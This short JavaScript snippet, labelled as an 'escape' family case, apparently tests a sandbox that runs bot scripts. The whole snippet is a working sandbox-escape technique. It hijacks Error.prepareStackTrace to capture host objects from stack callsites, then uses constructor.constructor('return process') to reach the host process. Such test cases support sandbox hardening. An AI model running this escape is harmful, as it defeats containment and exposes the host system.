// family: escape
// the host's own Error formats stacks with a function of the program
async function main (bot) {
  let HostError
  try { await craftItem(bot, 'nonsense', 1) } catch (error) { HostError = error.constructor }
  const tried = []
  for (let Kind = HostError; typeof Kind === 'function'; Kind = Object.getPrototypeOf(Kind)) {
    Kind.prepareStackTrace = (_error, sites) => {
      for (const site of sites) tried.push(site.getThis?.(), site.getFunction?.())
      return 'quiet'
    }
  }
  try { await placeItem(bot, 'nonsense', 1) } catch (error) { String(error.stack) }
  for (const thing of tried) if (thing) abuse(bot, thing.constructor.constructor('return process')())
}
